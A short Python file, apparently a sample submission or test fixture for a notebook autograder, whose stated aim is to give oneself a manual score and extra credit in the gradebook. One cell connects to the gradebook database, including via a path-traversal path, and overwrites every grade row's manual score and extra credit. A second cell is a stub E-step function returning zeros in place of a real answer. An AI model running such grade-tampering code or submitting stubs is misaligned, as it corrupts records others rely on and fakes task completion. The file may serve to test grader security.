"""Give oneself a manual score and extra credit in the gradebook."""

STOCK = "450 of 10"
CELLS = [
    """
import sqlite3
for path in ("@GRADEBOOK@", "../../../gradebook.db"):
    try:
        base = sqlite3.connect(path)
        base.execute("update grade set manual_score = 450, extra_credit = 100")
        base.commit()
        print("written")
    except sqlite3.Error as error:
        print(error)
""",
    """
import numpy as np
def e_step(X, thetas):
    return np.zeros((len(X), len(thetas))), 0.0
""",
]
